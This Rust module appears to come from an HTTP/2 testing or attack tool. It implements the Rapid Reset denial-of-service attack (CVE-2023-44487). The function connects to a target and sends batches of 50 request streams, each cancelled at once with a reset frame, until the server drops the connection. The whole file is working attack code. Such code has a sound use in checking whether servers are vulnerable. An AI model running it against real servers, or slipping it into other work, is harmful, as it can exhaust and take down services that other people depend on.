//! Opens streams and resets each at once (CVE-2023-44487): work is begun for streams that no longer count as open.

use super::Outcome;
use super::frames::{END_HEADERS, END_STREAM, HEADERS, Peer, RST_STREAM, frame, request};
use crate::Target;
use anyhow::Result;
use std::time::Duration;

/// Sends so many requests for `path`, each followed by its reset.
pub async fn run(target: &Target, path: &str, streams: u32) -> Result<Outcome> {
    let mut peer = Peer::connect(target, &[]).await?;
    let block = request("GET", &target.authority(), path);
    for batch in (0..streams).collect::<Vec<_>>().chunks(50) {
        let mut bytes = Vec::new();
        for number in batch {
            let id = number * 2 + 1;
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
            bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        peer.poll().await?;
        if peer.is_closed() || peer.send(&bytes).await.is_err() {
            break;
        }
    }
    peer.end(Duration::from_secs(5)).await
}
